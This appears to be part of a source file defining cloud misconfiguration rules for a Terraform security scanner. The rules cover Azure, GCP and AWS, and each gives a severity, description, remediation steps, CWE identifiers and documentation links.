  deferred("terraform-azurerm-kubernetes", { "id": "azure-hardcoded-admin-password", "title": "Hardcoded administrator password in a VM or database server", "severity": "high", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["azurerm_linux_virtual_machine", "azurerm_windows_virtual_machine", "azurerm_linux_virtual_machine_scale_set", "azurerm_windows_virtual_machine_scale_set", "azurerm_virtual_machine", "azurerm_sql_server", "azurerm_mssql_server", "azurerm_mssql_managed_instance", "azurerm_mysql_server", "azurerm_mysql_flexible_server", "azurerm_postgresql_server", "azurerm_postgresql_flexible_server", "azurerm_mariadb_server", "azurerm_synapse_workspace"], "description": "The administrator password is written into the configuration as a literal. It is then readable by everyone with access to the repository, its history, forks and CI logs, and it stays valid long after it leaks.", "remediation": "Generate the password (`random_password`) or read it from Key Vault (`azurerm_key_vault_secret` data source) or a sensitive variable, and rotate the password that was committed.", "precision": "very-high", "cwe": ["CWE-798"], "tags": ["azure", "secrets", "hardcoded-secret", "password"], "references": ["https://learn.microsoft.com/azure/key-vault/secrets/about-secrets", "https://developer.hashicorp.com/terraform/language/values/variables#suppressing-values-in-cli-output"] }),
  deferred("terraform-azurerm-kubernetes", { "id": "azure-linux-vm-password-authentication", "title": "Linux VM allows SSH password authentication", "severity": "medium", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["azurerm_linux_virtual_machine", "azurerm_linux_virtual_machine_scale_set", "azurerm_virtual_machine"], "description": "`disable_password_authentication = false` lets users log in over SSH with a password instead of a key. Passwords can be guessed, sprayed and reused; SSH keys cannot be brute-forced in practice.", "remediation": "Set `disable_password_authentication = true` (the default for `azurerm_linux_virtual_machine`) and provide an `admin_ssh_key`.", "precision": "very-high", "cwe": ["CWE-287"], "tags": ["azure", "vm", "ssh", "authentication", "password"], "references": ["https://learn.microsoft.com/azure/virtual-machines/linux/create-ssh-keys-detailed", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/linux_virtual_machine#disable_password_authentication"] }),
  deferred("terraform-azurerm-redis", { "id": "azure-role-definition-wildcard-actions", "title": 'Custom role grants all actions (wildcard "*")', "severity": "high", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["azurerm_role_definition"], "description": 'A custom role with `actions = ["*"]` allows every management operation within its assignable scopes, including changing role assignments: it is an owner role under another name, and whoever holds it can grant themselves anything at that scope.', "remediation": "List only the actions the role needs (for example `Microsoft.Compute/virtualMachines/read`), or assign a narrower built-in role.", "precision": "very-high", "cwe": ["CWE-269"], "tags": ["azure", "rbac", "custom-role", "least-privilege", "iam-wildcard"], "references": ["https://learn.microsoft.com/azure/role-based-access-control/custom-roles", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/role_definition"] }),
  deferred("terraform-azurerm-storage", { "id": "azure-storage-account-public-blob-access", "title": "Storage account allows public (anonymous) blob access", "severity": "high", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["azurerm_storage_account"], "description": "With anonymous access allowed on the account, any container in it can be switched to public read with one setting, and its blobs are then readable by anyone on the internet without a key or token. Most data leaks from Azure Storage start this way.", "remediation": "Set `allow_nested_items_to_be_public = false` (`allow_blob_public_access = false` on azurerm provider 2.x) and share data through SAS tokens, Azure AD authorisation or a CDN in front of a private container.", "precision": "very-high", "cwe": ["CWE-284"], "tags": ["azure", "storage", "public-access"], "references": ["https://learn.microsoft.com/azure/storage/blobs/anonymous-read-access-prevent", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/storage_account#allow_nested_items_to_be_public"] }),
  deferred("terraform-azurerm-storage", { "id": "azure-storage-container-public-access", "title": "Storage container is publicly accessible (anonymous read)", "severity": "critical", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["azurerm_storage_container"], "description": '`container_access_type = "blob"` or `"container"` grants anonymous public read access: whatever is uploaded to the container can be downloaded by anyone on the internet, and with `container` the blob names can be listed as well.', "remediation": 'Set `container_access_type = "private"` and hand out access through short-lived SAS tokens or Azure AD roles; serve public web content through a CDN or a static website deliberately set up for it.', "precision": "high", "cwe": ["CWE-284", "CWE-200"], "tags": ["azure", "storage", "public-access"], "references": ["https://learn.microsoft.com/azure/storage/blobs/anonymous-read-access-configure", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/storage_container#container_access_type"] }),
  deferred("terraform-google-bigquery", { "id": "gcp-bigquery-dataset-public", "title": "BigQuery dataset or table publicly accessible (allUsers / allAuthenticatedUsers)", "severity": "critical", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["google_bigquery_dataset", "google_bigquery_dataset_access", "google_bigquery_dataset_iam_member", "google_bigquery_table_iam_member", "google_bigquery_dataset_iam_binding", "google_bigquery_table_iam_binding"], "description": "Access is granted to `allUsers` (anyone, anonymously) or `allAuthenticatedUsers` (anyone with a Google account), so the dataset's tables can be queried and exported by the public.", "remediation": "Remove the public grant and give roles to specific users, groups or service accounts; share data externally through authorized views or Analytics Hub.", "precision": "very-high", "cwe": ["CWE-284", "CWE-200"], "frameworks": { "CIS Google Cloud Platform Foundation 2.0": ["7.1"] }, "tags": ["gcp", "bigquery", "public-access", "allUsers"], "references": ["https://cloud.google.com/bigquery/docs/control-access-to-resources-iam", "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/bigquery_dataset#access"] }),
  deferred("terraform-google-compute", { "id": "gcp-compute-block-project-ssh-keys", "title": "Compute Engine instance does not block project-wide SSH keys", "severity": "low", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["google_compute_instance", "google_compute_instance_template", "google_compute_region_instance_template"], "description": "Without `block-project-ssh-keys = TRUE`, any SSH key added to project metadata opens every such instance in the project, so one leaked or forgotten project key reaches all of them. With OS Login on, metadata keys are ignored and this does not apply.", "remediation": 'Set `block-project-ssh-keys = "TRUE"` in the instance metadata, or better, enable OS Login for the project.', "precision": "medium", "cwe": ["CWE-287"], "frameworks": { "CIS Google Cloud Platform Foundation 2.0": ["4.3"] }, "tags": ["gcp", "compute", "ssh", "ssh-keys", "authentication"], "references": ["https://cloud.google.com/compute/docs/connect/restrict-ssh-keys#block-keys", "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/compute_instance#metadata"] }),
  deferred("terraform-google-compute", { "id": "gcp-compute-default-service-account-full-scope", "title": "Compute Engine instance uses the default service account with the cloud-platform scope", "severity": "high", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["google_compute_instance", "google_compute_instance_template", "google_compute_region_instance_template"], "description": "The default Compute Engine service account holds the Editor role on the project unless that grant was removed; with the `cloud-platform` scope nothing limits what its tokens can do. Anyone who gets code running on the VM can read the metadata server's token and modify almost every resource in the project.", "remediation": "Create a dedicated service account with only the roles the workload needs and set it in `service_account { email = ... }`; keep the `cloud-platform` scope only with such a least-privilege account.", "precision": "very-high", "cwe": ["CWE-250"], "frameworks": { "CIS Google Cloud Platform Foundation 2.0": ["4.2"] }, "tags": ["gcp", "compute", "service-account", "default-service-account", "least-privilege"], "references": ["https://cloud.google.com/compute/docs/access/service-accounts#default_service_account", "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/compute_instance#service_account"] }),
  deferred("terraform-google-compute", { "id": "gcp-compute-default-service-account", "title": "Compute Engine instance uses the default service account", "severity": "medium", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["google_compute_instance", "google_compute_instance_template", "google_compute_region_instance_template"], "description": "The instance runs as the Compute Engine default service account, which is shared by every VM in the project and holds the Editor role unless that grant was removed. Its access scopes are the only limit on what code on the VM can do with its credentials. (With the `cloud-platform` scope this is reported by the full-scope rule instead.)", "remediation": "Create a dedicated service account for the workload, grant it only the roles it needs and set it in `service_account { email = ... }`.", "precision": "high", "cwe": ["CWE-250"], "frameworks": { "CIS Google Cloud Platform Foundation 2.0": ["4.1"] }, "tags": ["gcp", "compute", "service-account", "default-service-account", "least-privilege"], "references": ["https://cloud.google.com/compute/docs/access/service-accounts#default_service_account", "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/compute_instance#service_account"] }),
  deferred("terraform-google-compute", { "id": "gcp-compute-os-login-disabled", "title": "Compute Engine OS Login disabled", "severity": "medium", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["google_compute_instance", "google_compute_instance_template", "google_compute_region_instance_template", "google_compute_project_metadata", "google_compute_project_metadata_item"], "description": "`enable-oslogin = FALSE` makes the instance (or, on project metadata, every instance) fall back to SSH keys stored in metadata. Access is then not tied to IAM identities: keys are not revoked when people leave, cannot require two-step verification and leave no audit trail of who logged in.", "remediation": 'Set `enable-oslogin = "TRUE"` in project metadata and remove instance-level overrides; grant `roles/compute.osLogin` to the people who need SSH.', "precision": "very-high", "cwe": ["CWE-287"], "frameworks": { "CIS Google Cloud Platform Foundation 2.0": ["4.4"] }, "tags": ["gcp", "compute", "os-login", "ssh", "authentication"], "references": ["https://cloud.google.com/compute/docs/oslogin/set-up-oslogin", "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/compute_project_metadata"] }),
  deferred("terraform-google-compute", { "id": "gcp-compute-serial-port-enabled", "title": "Compute Engine interactive serial port access enabled", "severity": "medium", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["google_compute_instance", "google_compute_instance_template", "google_compute_region_instance_template", "google_compute_project_metadata", "google_compute_project_metadata_item"], "description": "`serial-port-enable` turns on the interactive serial console, which accepts connections from any IP address and is not subject to VPC firewall rules. Anyone holding a key authorised for the instance can reach its console from anywhere.", "remediation": 'Remove the `serial-port-enable` metadata key or set it to `"FALSE"`; enable it only temporarily for troubleshooting.', "precision": "very-high", "cwe": ["CWE-284"], "frameworks": { "CIS Google Cloud Platform Foundation 2.0": ["4.5"] }, "tags": ["gcp", "compute", "serial-port"], "references": ["https://cloud.google.com/compute/docs/troubleshooting/troubleshooting-using-serial-console", "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/compute_instance#metadata"] }),
  deferred("terraform-google-container", { "id": "gcp-gke-basic-auth", "title": "GKE cluster with basic authentication (static username and password)", "severity": "high", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["google_container_cluster"], "description": "`master_auth` sets a static username and password for the Kubernetes API. That password grants cluster-admin, cannot be scoped, is stored in Terraform state and never expires.", "remediation": "Remove `username` and `password` from `master_auth` and authenticate with Google identities (IAM and `gcloud container clusters get-credentials`).", "precision": "very-high", "cwe": ["CWE-798", "CWE-287"], "tags": ["gcp", "gke", "kubernetes", "basic-auth", "authentication"], "references": ["https://cloud.google.com/kubernetes-engine/docs/how-to/api-server-authentication#legacy-auth", "https://registry.terraform.io/providers/hashicorp/google/4.85.0/docs/resources/container_cluster#username"] }),
  deferred("terraform-google-container", { "id": "gcp-gke-client-certificate", "title": "GKE cluster issues a client certificate", "severity": "medium", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["google_container_cluster"], "description": "`issue_client_certificate = true` creates a long-lived client certificate with cluster-admin rights. It is kept in Terraform state, cannot be revoked short of rotating the cluster's CA, and bypasses IAM.", "remediation": "Set `issue_client_certificate = false` (the default) and authenticate with Google identities.", "precision": "very-high", "cwe": ["CWE-287"], "tags": ["gcp", "gke", "kubernetes", "client-certificate", "authentication"], "references": ["https://cloud.google.com/kubernetes-engine/docs/how-to/api-server-authentication#legacy-auth", "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/container_cluster#issue_client_certificate"] }),
  deferred("terraform-google-container", { "id": "gcp-gke-dashboard-enabled", "title": "GKE Kubernetes dashboard add-on enabled", "severity": "medium", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["google_container_cluster"], "description": "The Kubernetes dashboard add-on runs with a privileged service account; an exposed dashboard has been a common way to take over clusters. GKE has deprecated and removed it in favour of the Cloud Console.", "remediation": "Set `addons_config { kubernetes_dashboard { disabled = true } }` or remove the block, and use the Google Cloud console's Kubernetes pages.", "precision": "very-high", "cwe": ["CWE-1188"], "tags": ["gcp", "gke", "kubernetes", "dashboard"], "references": ["https://cloud.google.com/kubernetes-engine/docs/concepts/dashboards#kubernetes_dashboard", "https://registry.terraform.io/providers/hashicorp/google/3.90.1/docs/resources/container_cluster#kubernetes_dashboard"] }),
  deferred("terraform-google-container", { "id": "gcp-gke-legacy-abac", "title": "GKE cluster with legacy ABAC authorization enabled", "severity": "high", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["google_container_cluster"], "description": "Legacy attribute-based access control grants broad, statically configured permissions that bypass Kubernetes RBAC; on GKE it gives service accounts, including those of ordinary pods, far more access than their RBAC bindings say.", "remediation": "Set `enable_legacy_abac = false` (the default) and grant access through Kubernetes RBAC and IAM.", "precision": "very-high", "cwe": ["CWE-285"], "tags": ["gcp", "gke", "kubernetes", "abac", "rbac", "authorization"], "references": ["https://cloud.google.com/kubernetes-engine/docs/how-to/hardening-your-cluster#leave_abac_disabled_default_for_110", "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/container_cluster#enable_legacy_abac"] }),
  deferred("terraform-google-container", { "id": "gcp-gke-legacy-metadata-endpoints", "title": "GKE nodes expose legacy metadata endpoints or node metadata to pods", "severity": "medium", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["google_container_cluster", "google_container_node_pool"], "description": "`disable-legacy-endpoints = false` re-enables the v0.1 and v1beta1 metadata APIs, which answer without the `Metadata-Flavor` header, and `node_metadata = \"EXPOSE\"` gives pods the node's full metadata. Either lets a server-side request forgery in any pod fetch the node's credentials and kubelet bootstrap secrets.", "remediation": 'Remove the `disable-legacy-endpoints` override (it defaults to true) and use `workload_metadata_config { mode = "GKE_METADATA" }` with Workload Identity.', "precision": "very-high", "cwe": ["CWE-200"], "tags": ["gcp", "gke", "kubernetes", "metadata"], "references": ["https://cloud.google.com/kubernetes-engine/docs/how-to/protecting-cluster-metadata", "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/container_cluster#workload_metadata_config"] }),
  deferred("terraform-google-container", { "id": "gcp-gke-node-default-service-account", "title": "GKE nodes run as the default Compute Engine service account", "severity": "medium", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["google_container_cluster", "google_container_node_pool"], "description": "Nodes without `node_config.service_account` run as the Compute Engine default service account, which usually holds the Editor role on the project. Any pod that reaches the node's metadata server can use those credentials against the whole project.", "remediation": "Create a minimal node service account (roles/container.defaultNodeServiceAccount) and set it in `node_config { service_account = ... }`.", "precision": "high", "cwe": ["CWE-250"], "tags": ["gcp", "gke", "kubernetes", "service-account", "default-service-account"], "references": ["https://cloud.google.com/kubernetes-engine/docs/how-to/hardening-your-cluster#use_least_privilege_sa", "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/container_node_pool#service_account"] }),
  deferred("terraform-google-container", { "id": "gcp-gke-workload-identity-missing", "title": "GKE cluster without Workload Identity", "severity": "low", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["google_container_cluster"], "description": "Without Workload Identity, pods that call Google APIs use the node's service account: every pod on a node has the same permissions, and any pod can read the node's credentials from the metadata server.", "remediation": 'Add `workload_identity_config { workload_pool = "PROJECT_ID.svc.id.goog" }` and bind Kubernetes service accounts to dedicated Google service accounts.', "precision": "high", "cwe": ["CWE-250"], "tags": ["gcp", "gke", "kubernetes", "workload-identity", "service-account"], "references": ["https://cloud.google.com/kubernetes-engine/docs/how-to/workload-identity", "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/container_cluster#workload_identity_config"] }),
  deferred("terraform-google-kms", { "id": "gcp-project-primitive-role", "title": "Basic (primitive) role Owner or Editor granted on a project, folder or organization", "severity": "low", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["google_project_iam_member", "google_folder_iam_member", "google_organization_iam_member", "google_project_iam_binding", "google_folder_iam_binding", "google_organization_iam_binding"], "description": "The basic roles `roles/owner` and `roles/editor` grant thousands of permissions across every service. A principal holding one can read and change nearly everything in scope, which rarely matches what it needs and makes a compromise of that principal far more damaging.", "remediation": "Grant predefined or custom roles limited to the services and actions the principal uses; keep Owner for a small break-glass group.", "precision": "high", "cwe": ["CWE-269"], "tags": ["gcp", "iam", "basic-roles", "least-privilege"], "references": ["https://cloud.google.com/iam/docs/roles-overview#basic", "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/google_project_iam"] }),
  deferred("terraform-google-kms", { "id": "gcp-service-account-key", "title": "User-managed service account key created (long-lived credentials)", "severity": "medium", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["google_service_account_key"], "description": "A user-managed service account key is a long-lived credential that does not expire by default. Created by Terraform, its private key is also stored in the state file, so anyone who can read the state can act as the service account from anywhere.", "remediation": "Use attached service accounts, Workload Identity or Workload Identity Federation instead of keys; if a key is unavoidable, upload a public key generated outside Terraform and rotate it.", "precision": "high", "cwe": ["CWE-798"], "frameworks": { "CIS Google Cloud Platform Foundation 2.0": ["1.4"] }, "tags": ["gcp", "iam", "service-account", "user-credentials"], "references": ["https://cloud.google.com/iam/docs/best-practices-for-managing-service-account-keys", "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/google_service_account_key"] }),
  deferred("terraform-google-kms", { "id": "gcp-storage-bucket-public-acl", "title": "Cloud Storage ACL makes a bucket or objects public (allUsers, publicRead)", "severity": "critical", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["google_storage_bucket_acl", "google_storage_default_object_acl", "google_storage_object_acl", "google_storage_bucket_access_control", "google_storage_default_object_access_control", "google_storage_object_access_control"], "description": "A bucket or object ACL grants access to `allUsers` or `allAuthenticatedUsers`, directly or through the `publicRead`, `publicReadWrite` or `authenticatedRead` predefined ACLs. The data is then publicly readable (or writable) by anyone on the internet.", "remediation": "Use a private predefined ACL (`projectPrivate`, `private`) or, better, enable uniform bucket-level access and grant IAM roles to specific principals only.", "precision": "very-high", "cwe": ["CWE-284", "CWE-200"], "frameworks": { "CIS Google Cloud Platform Foundation 2.0": ["5.1"] }, "tags": ["gcp", "cloud-storage", "public-access", "acl", "allUsers"], "references": ["https://cloud.google.com/storage/docs/access-control/lists", "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/storage_bucket_acl"] }),
  deferred("terraform-google-kms", { "id": "gcp-storage-bucket-public-iam", "title": "Cloud Storage bucket IAM grants access to allUsers or allAuthenticatedUsers (public bucket)", "severity": "critical", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["google_storage_bucket_iam_binding", "google_storage_bucket_iam_member", "google_storage_bucket_iam_policy"], "description": "A bucket IAM grant to `allUsers` makes the bucket's objects publicly accessible to anyone on the internet, without authentication; `allAuthenticatedUsers` means anyone with any Google account, which is no narrower in practice. Public buckets are a leading cause of cloud data leaks.", "remediation": "Remove `allUsers` and `allAuthenticatedUsers` from the bucket's IAM and grant roles to specific users, groups or service accounts; serve intentionally public content through a load balancer with Cloud CDN or signed URLs.", "precision": "very-high", "cwe": ["CWE-284", "CWE-200"], "frameworks": { "CIS Google Cloud Platform Foundation 2.0": ["5.1"] }, "tags": ["gcp", "cloud-storage", "public-access", "allUsers"], "references": ["https://cloud.google.com/storage/docs/access-control/making-data-public", "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/storage_bucket_iam"] }),
  deferred("terraform-google-kms", { "id": "gcp-storage-bucket-uniform-access", "title": "Cloud Storage bucket without uniform bucket-level access", "severity": "medium", "category": "iam", "platforms": ["terraform"], "resourceTypes": ["google_storage_bucket"], "description": "Without uniform bucket-level access, every object can carry its own ACL on top of the bucket's IAM policy. Access then cannot be reviewed in one place, and a single object ACL granting `allUsers` makes that object public without any change to the bucket's IAM.", "remediation": "Set `uniform_bucket_level_access = true` and grant access only through IAM on the bucket.", "precision": "very-high", "cwe": ["CWE-732"], "frameworks": { "CIS Google Cloud Platform Foundation 2.0": ["5.2"] }, "tags": ["gcp", "cloud-storage", "uniform-bucket-level-access", "acl"], "references": ["https://cloud.google.com/storage/docs/uniform-bucket-level-access", "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/storage_bucket#uniform_bucket_level_access"] }),
  deferred("terraform-aws-ami", { "id": "aws-api-gateway-domain-outdated-tls", "title": "API Gateway custom domain accepts TLS 1.0", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_api_gateway_domain_name"], "description": '`security_policy = "TLS_1_0"` lets clients call the API over TLS 1.0 and 1.1, deprecated protocol versions (RFC 8996) with weak cipher suites.', "remediation": 'Set `security_policy = "TLS_1_2"` (or a newer TLS 1.3 policy).', "precision": "very-high", "cwe": ["CWE-327"], "tags": ["api-gateway", "encryption-in-transit", "tls"], "references": ["https://docs.aws.amazon.com/apigateway/latest/developerguide/apigateway-custom-domain-tls-version.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/api_gateway_domain_name#security_policy"] }),
  deferred("terraform-aws-ami", { "id": "aws-athena-workgroup-encryption-at-rest", "title": "Athena workgroup query results not encrypted at rest", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_athena_workgroup"], "description": "The workgroup writes query results to S3 without an `encryption_configuration`, so result files, which hold whatever the queries selected, rely on the bucket's settings alone.", "remediation": 'Add `configuration { result_configuration { encryption_configuration { encryption_option = "SSE_KMS" kms_key_arn = … } } }` and set `enforce_workgroup_configuration = true` so clients cannot override it.', "precision": "medium", "cwe": ["CWE-311"], "tags": ["athena", "encryption-at-rest", "sse"], "references": ["https://docs.aws.amazon.com/athena/latest/ug/encrypting-query-results-stored-in-s3.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/athena_workgroup#encryption_configuration"] }),
  deferred("terraform-aws-ami", { "id": "aws-backup-vault-customer-managed-key", "title": "Backup vault not encrypted with a customer-managed KMS key", "severity": "low", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_backup_vault"], "description": "Without `kms_key_arn` the vault encrypts recovery points with the AWS-managed backup key. Backups are copies of everything worth stealing; a customer-managed key lets a key policy decide who can restore or copy them.", "remediation": "Set `kms_key_arn` to a customer-managed KMS key when creating the vault (the key cannot be changed afterwards).", "precision": "medium", "cwe": ["CWE-311"], "tags": ["backup", "kms", "encryption-at-rest"], "references": ["https://docs.aws.amazon.com/aws-backup/latest/devguide/encryption.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/backup_vault#kms_key_arn"] }),
  deferred("terraform-aws-ami", { "id": "aws-cloudfront-origin-http", "title": "CloudFront fetches from a custom origin over plain HTTP (no TLS)", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_cloudfront_distribution"], "description": '`origin_protocol_policy = "http-only"` makes CloudFront reach the origin without TLS, so requests (with their cookies and authorization headers) and responses cross the internet unencrypted between the edge and the origin, even when viewers use HTTPS. S3 website endpoints, which only speak HTTP, are not reported.', "remediation": 'Serve the origin over HTTPS and set `origin_protocol_policy = "https-only"` with `origin_ssl_protocols = ["TLSv1.2"]`.', "precision": "high", "cwe": ["CWE-319"], "tags": ["cloudfront", "encryption-in-transit", "http"], "references": ["https://docs.aws.amazon.com/AmazonCloudFront/latest/DeveloperGuide/using-https-cloudfront-to-custom-origin.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/cloudfront_distribution#origin_protocol_policy"] }),
  deferred("terraform-aws-ami", { "id": "aws-cloudfront-outdated-tls-version", "title": "CloudFront distribution accepts TLS versions below 1.2", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_cloudfront_distribution"], "description": "The viewer certificate's `minimum_protocol_version` lets viewers connect with SSLv3, TLS 1.0 or TLS 1.1, which are deprecated (RFC 8996) and open to downgrade attacks.", "remediation": 'Set `minimum_protocol_version = "TLSv1.2_2021"` in `viewer_certificate` (this needs a custom certificate from ACM).', "precision": "very-high", "cwe": ["CWE-327"], "tags": ["cloudfront", "encryption-in-transit", "tls"], "references": ["https://docs.aws.amazon.com/AmazonCloudFront/latest/DeveloperGuide/secure-connections-supported-viewer-protocols-ciphers.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/cloudfront_distribution#minimum_protocol_version"] }),
  deferred("terraform-aws-ami", { "id": "aws-cloudfront-viewer-protocol-allow-all", "title": "CloudFront cache behavior allows HTTP (viewer protocol policy allow-all)", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_cloudfront_distribution"], "description": 'With `viewer_protocol_policy = "allow-all"` viewers can fetch the content over plain HTTP, without TLS: responses and cookies can be read or rewritten by anyone on the path, and users are never moved to HTTPS.', "remediation": 'Set `viewer_protocol_policy = "redirect-to-https"` (or `"https-only"`) on the default and every ordered cache behavior.', "precision": "very-high", "cwe": ["CWE-319"], "tags": ["cloudfront", "encryption-in-transit", "https"], "references": ["https://docs.aws.amazon.com/AmazonCloudFront/latest/DeveloperGuide/using-https-viewers-to-cloudfront.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/cloudfront_distribution#viewer_protocol_policy"] }),
  deferred("terraform-aws-cloudtrail", { "id": "aws-cloudtrail-customer-managed-key", "title": "CloudTrail logs not encrypted with a customer-managed KMS key", "severity": "low", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_cloudtrail"], "description": "Without `kms_key_id` CloudTrail log files are protected only by the bucket's S3-managed encryption, so anyone allowed to read the bucket reads the account's whole API history. SSE-KMS with your own key adds a second, separately audited permission (`kms:Decrypt`) in front of the logs.", "remediation": "Create a KMS key whose policy lets CloudTrail encrypt and your auditors decrypt, and set `kms_key_id` to its ARN.", "precision": "very-high", "cwe": ["CWE-311"], "frameworks": { "CIS AWS 1.4.0": ["3.7"] }, "tags": ["aws", "cloudtrail", "kms", "encryption-at-rest", "audit"], "references": ["https://docs.aws.amazon.com/awscloudtrail/latest/userguide/encrypting-cloudtrail-log-files-with-aws-kms.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/cloudtrail#kms_key_id"] }),
  deferred("terraform-aws-cloudtrail", { "id": "aws-cloudwatch-log-group-customer-managed-key", "title": "CloudWatch log group not encrypted with a customer-managed KMS key", "severity": "low", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_cloudwatch_log_group"], "description": "CloudWatch Logs always encrypts log data, but without `kms_key_id` it uses a service key that anyone with log read permissions can use. Logs often carry tokens, personal data and request payloads; a customer-managed key adds a key policy and an audit trail around reading them.", "remediation": "Set `kms_key_id` to a customer-managed KMS key whose key policy allows the `logs.<region>.amazonaws.com` service principal.", "precision": "medium", "cwe": ["CWE-311"], "tags": ["cloudwatch", "logs", "kms", "encryption-at-rest"], "references": ["https://docs.aws.amazon.com/AmazonCloudWatch/latest/logs/encrypt-log-data-kms.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/cloudwatch_log_group#kms_key_id"] }),
  deferred("terraform-aws-cloudtrail", { "id": "aws-dax-encryption-at-rest", "title": "DynamoDB Accelerator (DAX) cluster not encrypted at rest", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_dax_cluster"], "description": "Without server-side encryption the DAX cluster keeps its cached DynamoDB items and logs unencrypted on its nodes' disks, even when the tables behind it are encrypted. The setting is fixed when the cluster is created.", "remediation": "Add `server_side_encryption { enabled = true }` and recreate the cluster.", "precision": "very-high", "cwe": ["CWE-311"], "tags": ["dax", "dynamodb", "encryption-at-rest"], "references": ["https://docs.aws.amazon.com/amazondynamodb/latest/developerguide/DAXEncryptionAtRest.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/dax_cluster#server_side_encryption"] }),
  deferred("terraform-aws-dms", { "id": "aws-docdb-encryption-at-rest", "title": "DocumentDB cluster storage not encrypted at rest", "severity": "high", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_docdb_cluster"], "description": "The DocumentDB cluster's storage, automated backups and snapshots are unencrypted. The setting cannot be changed on an existing cluster; the data has to be moved to a new encrypted one.", "remediation": "Set `storage_encrypted = true` and `kms_key_id` to a customer-managed KMS key when creating the cluster.", "precision": "very-high", "cwe": ["CWE-311"], "tags": ["documentdb", "encryption-at-rest"], "references": ["https://docs.aws.amazon.com/documentdb/latest/developerguide/encryption-at-rest.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/docdb_cluster#storage_encrypted"] }),
  deferred("terraform-aws-dms", { "id": "aws-docdb-tls-disabled", "title": "DocumentDB parameter group turns off TLS (encryption in transit)", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_docdb_cluster_parameter_group"], "description": "The `tls` parameter is `disabled`, so clusters using this parameter group accept connections without TLS and database credentials and documents travel in clear text inside the VPC.", "remediation": "Set the `tls` parameter to `enabled` (or a `fips-140-3` / `tls1.2+` value) and reboot the cluster instances.", "precision": "very-high", "cwe": ["CWE-319"], "tags": ["documentdb", "encryption-in-transit", "tls"], "references": ["https://docs.aws.amazon.com/documentdb/latest/developerguide/security.encryption.ssl.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/docdb_cluster_parameter_group"] }),
  deferred("terraform-aws-dms", { "id": "aws-dynamodb-table-customer-managed-key", "title": "DynamoDB table encrypted only with an AWS-owned key (no KMS key)", "severity": "low", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_dynamodb_table"], "description": "Every DynamoDB table is encrypted at rest, but without `server_side_encryption { enabled = true }` the key is owned by AWS and invisible to the account: its use is not logged in CloudTrail and no key policy can restrict who decrypts the table or its backups.", "remediation": "Add `server_side_encryption { enabled = true }` with `kms_key_arn` set to a customer-managed KMS key (without it, the AWS-managed `aws/dynamodb` key is used).", "precision": "high", "cwe": ["CWE-311"], "tags": ["dynamodb", "kms", "encryption-at-rest"], "references": ["https://docs.aws.amazon.com/amazondynamodb/latest/developerguide/EncryptionAtRest.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/dynamodb_table#server_side_encryption"] }),
